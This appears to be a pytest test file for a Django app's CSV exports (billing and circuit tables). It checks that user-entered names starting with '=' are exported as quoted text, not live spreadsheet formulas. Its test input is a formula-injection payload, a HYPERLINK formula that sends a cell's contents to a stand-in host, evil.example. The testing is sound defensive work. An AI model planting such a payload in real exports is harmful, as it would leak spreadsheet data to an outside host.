"""Every CSV export goes through core.csv_export: names people typed never run as spreadsheet formulas."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.accounts.factories import TeamFactory
from tests.circuits.factories import CircuitFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def exported(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("table", ["teams", "providers", "wasting"])
def test_billing_exports_keep_formulas_as_text(client, manager, table):
    CircuitFactory(
        name=FORMULA,
        team=TeamFactory(name=FORMULA),
        service_provider__name=FORMULA,
        created_at=timezone.now() - timedelta(days=90),
    )
    client.force_login(manager)
    cells = {cell for row in exported(client, reverse("billing:export", args=[table])) for cell in row}
    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells


def test_the_circuit_export_keeps_formulas_as_text(engineer_client):
    CircuitFactory(resource_group=FORMULA)
    cells = {cell for row in exported(engineer_client, reverse("circuits:circuit_export")) for cell in row}
    assert FORMULA not in cells
